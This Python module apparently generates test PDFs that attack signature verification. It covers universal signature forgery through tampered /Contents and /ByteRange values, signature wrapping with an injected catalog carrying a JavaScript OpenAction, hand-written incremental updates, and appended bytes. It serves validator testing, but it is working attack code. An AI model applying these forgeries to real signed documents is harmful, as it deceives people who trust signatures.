"""Changes to the bytes of a PDF that no library makes: what an attacker writes by hand."""

import re
import zlib


def gap(pdf):
    """Where the hexadecimal digits of the last signature stand."""
    start = pdf.rindex(b"/Contents <") + len(b"/Contents <")
    return start, pdf.index(b">", start)


class Increment:
    """What is saved after a file. Objects are read where the last cross-reference table that has them says they stand."""

    def __init__(self, pdf):
        self.pdf, self.new, self.body_bytes, self.freed = pdf, {}, b"", set()
        self.offsets, self.containers = {}, None
        self.prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        starts, at = [], self.prev
        while at is not None:
            starts.append(at)
            trailer = pdf[pdf.index(b"trailer", at) : pdf.index(b"startxref", at)]
            found = re.search(rb"/Prev\s+(\d+)", trailer)
            at = int(found[1]) if found else None
        self.first = starts[-1]
        for start in reversed(starts):
            self.table(start)
        trailer = pdf[pdf.index(b"trailer", self.prev) : pdf.index(b"startxref", self.prev)]
        self.root = int(re.search(rb"/Root\s+(\d+)", trailer)[1])
        self.size = int(re.search(rb"/Size\s+(\d+)", trailer)[1])
        kept = [re.search(pattern, trailer) for pattern in (rb"/Info\s+\d+ 0 R", rb"/ID\s*\[.*?\]")]
        self.kept = b" ".join(found[0] for found in kept if found)
        signatures = re.findall(rb"(\d+) 0 obj\s*<<(?:(?!endobj).)*?/ByteRange", pdf, re.DOTALL)
        self.signature = int(signatures[-1]) if signatures else None

    def table(self, start):
        number = left = 0
        for line in self.pdf[start:].splitlines()[1:]:
            if line.startswith(b"trailer"):
                return
            words = line.split()
            if len(words) == 2:
                number, left = map(int, words)
                continue
            if words[2] == b"n":
                self.offsets[number] = int(words[0])
            number += 1

    def numbers(self):
        return sorted(self.offsets)

    def number(self, pattern):
        return int(re.search(pattern.replace(b" (", rb"\s*("), self.pdf)[1])

    def offset(self, number):
        return self.offsets[number]

    def body(self, number):
        start = self.offsets[number]
        start = self.pdf.index(b"obj", start) + 3
        return self.pdf[start : self.pdf.index(b"endobj", start)].strip()

    def at(self):
        return len(self.pdf) + len(self.body_bytes)

    def raw(self, data):
        self.body_bytes += data
        return self

    def entry(self, number, offset):
        self.new[number] = offset
        return self

    def free(self, number):
        self.freed.add(number)
        return self

    def object(self, number, body):
        self.new[number] = self.at()
        return self.raw(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    def again(self, number):
        return self.object(number, self.body(number))

    def stream(self, number, data, keys=b""):
        return self.object(number, b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), keys, data))

    def packed(self, number, body):
        head = b"%d 0 " % number
        self.containers = (number, 9001)
        return self.stream(9001, head + body, b"/Type/ObjStm/N 1/First %d" % len(head))

    def trailer(self, root, prev, extra):
        size = max([self.size, *(number + 1 for number in self.new)])
        text = b"/Size %d/Root %d 0 R/Prev %d %s%s"
        return text % (size, root or self.root, self.prev if prev is None else prev, self.kept, extra)

    def save(self, root=None, prev=None, extra=b"", twice=False):
        start = self.at()
        rows = [(number, b"%d 1\n%010d 00000 n \n" % (number, offset)) for number, offset in sorted(self.new.items())]
        rows += [(number, b"%d 1\n0000000000 00001 f \n" % number) for number in self.freed]
        lines = [row for _, row in sorted(rows)] * (2 if twice else 1)
        table = b"xref\n" + b"".join(lines) + b"trailer\n<<" + self.trailer(root, prev, extra) + b">>\n"
        return self.pdf + self.body_bytes + table + b"startxref\n%d\n%%%%EOF\n" % start

    def save_stream(self):
        start, own = self.at(), 9002
        number, container = self.containers
        rows = {key: (1, value, 0) for key, value in {**self.new, own: start}.items()} | {number: (2, container, 0)}
        index = b" ".join(b"%d 1" % key for key in sorted(rows))
        data = b"".join(
            bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for _, (kind, place, last) in sorted(rows.items())
        )
        self.new[own] = start
        data = zlib.compress(data)
        keys = self.trailer(None, None, b"") + b"/Type/XRef/W[1 4 1]/Index[%s]/Filter/FlateDecode" % index
        body = b"%d 0 obj\n<</Length %d%s>>\nstream\n%s\nendstream\nendobj\n" % (own, len(data), keys, data)
        return self.pdf + self.body_bytes + body + b"startxref\n%d\n%%%%EOF\n" % start


def in_dictionary(pdf, old, new):
    """Other bytes in the signature dictionary; the room that the value has makes good the difference in length."""
    more = len(new(pdf) if callable(new) else new) - len(old)
    start, end = gap(pdf)
    at = pdf.rindex(old)
    cut = pdf[: end - more] + pdf[end:] if more >= 0 else pdf[:end] + b"0" * -more + pdf[end:]
    if at > end:
        at -= more
    return cut[:at] + new + cut[at + len(old) :]


def range_of(pdf):
    """The text of the range, its numbers, and the same text with other numbers in as many bytes."""
    found = list(re.finditer(rb"/ByteRange \[([^\]]*)\]", pdf))[-1]
    return found[0], [int(word) for word in found[1].split()]


def rewritten(signed):
    """A value or a range that says nothing, or something else (universal signature forgery)."""
    start, end = gap(signed)
    before, after = signed[: start - 1], signed[end + 1 :]
    room = end - start + 2
    for name, value in {
        "null": b"null", "empty": b"<>", "zero": b"<00>", "string": b"()", "number": b"0", "reference": b"1 0 R",
    }.items():
        yield f"contents-{name}", before + value.ljust(room) + after
    yield "contents-zeros", signed[:start] + b"0" * (end - start) + signed[end:]
    yield "contents-text", signed[:start] + b"not hexadecimal".ljust(end - start, b"0") + signed[end:]
    yield "contents-missing", signed.replace(b"/Contents <", b"/Inhoud__ <")
    text, [zero, first, second, rest] = range_of(signed)
    for name, value in {
        "missing": None, "null": b"null", "two": b"[0 %d]" % len(signed), "six": b"[0 9 %d 9 %d 9]" % (first, second),
        "negative": b"[0 %d %d -%d]" % (first, second, rest), "back": b"[0 %d -%d %d]" % (first, second, rest),
        "overlapping": b"[0 %d 0 %d]" % (first, first), "long": b"[0 %d %d %d]" % (first, second, rest + 1000),
        "short": b"[0 %d %d %d]" % (first, second, rest - 1000), "zeros": b"[0 0 0 0]",
        "late": b"[7 %d %d %d]" % (first - 7, second, rest), "whole": b"[0 %d %d 0]" % (len(signed), len(signed)),
        "narrow": b"[0 %d %d %d]" % (first + 1, second - 1, rest + 1), "wide": b"[0 %d %d %d]" % (first - 1, second, rest),
        "strings": b"[(0) (%d) (%d) (%d)]" % (first, second, rest), "reals": b"[0.0 %d %d %d]" % (first, second, rest),
        "huge": b"[0 %d %d 99999999999999999999]" % (first, second), "reference": b"1 0 R", "empty": b"[]",
    }.items():
        other = b"/Byterange []" if value is None else b"/ByteRange " + value
        room = re.search(re.escape(text) + rb" *", signed)[0]
        yield f"range-{name}", signed.replace(room, other.ljust(len(room))) if len(other) <= len(room) else in_dictionary(
            signed, text, other)
    twice = text + text
    yield "range-twice", in_dictionary(signed, text, twice)
    yield "contents-twice", in_dictionary(signed, text, text + b"/Contents <00>")


def wrapped(signed, seal, signer):
    """What was signed is moved, and something else put in its place (signature wrapping)."""
    start, end = gap(signed)
    first, value, second = signed[: start - 1], signed[start - 1 : end + 1], signed[end + 1 :]
    named = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    before = Increment(signed)
    evil = b"%d 0 obj\n<</Type/Catalog/Pages 1 0 R/OpenAction<</S/JavaScript/JS(1)>>>>\nendobj\n" % before.root
    # The value, then an object and a cross-reference table of the attacker's where the signed startxref names one, and
    # only then the second piece that was signed.
    for name, redefined in (("moved", False), ("moved-redefined", True)):
        head = first + value + b"\n"
        offset = len(head)
        objects, rows = evil, {before.root: offset}
        if redefined:
            rows[before.signature] = offset + len(objects)
            far = len(signed) + 4000
            body = before.body(before.signature)
            body = re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 %d %d %d]" % (len(first), far, len(second)), body)
            objects += b"%d 0 obj\n%s\nendobj\n" % (before.signature, body)
        head += objects
        if len(head) > named:
            named_at = len(head)
        else:
            named_at, head = named, head.ljust(named)
        table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % row for row in sorted(rows.items()))
        table += b"trailer\n<<" + before.trailer(None, before.first, b"") + b">>\n"
        moved = (head + table).ljust(len(signed) + 4000)
        yield f"wrapped-{name}", moved + second
    # Signed by one who is trusted, with more in the gap than the value.
    text, [_, length, rest, more] = range_of(signed)
    for name, extra in (("key", b"/Extra <" + b"00" * 40 + b">"), ("object", b">>\nendobj\n9003 0 obj\n<</Evil 1 ")):
        wide = value[: -1 - len(extra)] + b">" + extra
        file = first + wide + second
        content = first + second
        der = seal(content, signer[0], signer[1]).hex().encode()
        filled = b"<" + der.ljust(len(value) - 2 - len(extra), b"0") + b">" + extra
        yield f"wrapped-{name}", first + filled + second


def tails(signed):
    """Something before the file or after it."""
    named = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    yield "before-header", b"\n" + signed
    yield "mail-before-header", b"From: iemand\r\n\r\n" + signed
    yield "garbage-after", signed + b"x"
    yield "zeros-after", signed + b"\0" * 600
    yield "blank-after", signed + b"\n"
    yield "remark-after", signed + b"% een opmerking\n"
    yield "second-eof", signed + b"%%EOF\n"
    yield "second-startxref", signed + b"startxref\n%d\n%%%%EOF\n" % named
    yield "startxref-zero", signed + b"startxref\n0\n%%EOF\n"
    yield "object-after", signed + b"9000 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
    yield "table-after", signed + b"xref\n0 0\ntrailer\n<<>>\n%%EOF\n"
    yield "file-twice", signed + signed
    yield "cut-short", signed[:-7]
    yield "cut-before-signature", signed[: signed.rindex(b"/Contents <") + 500]
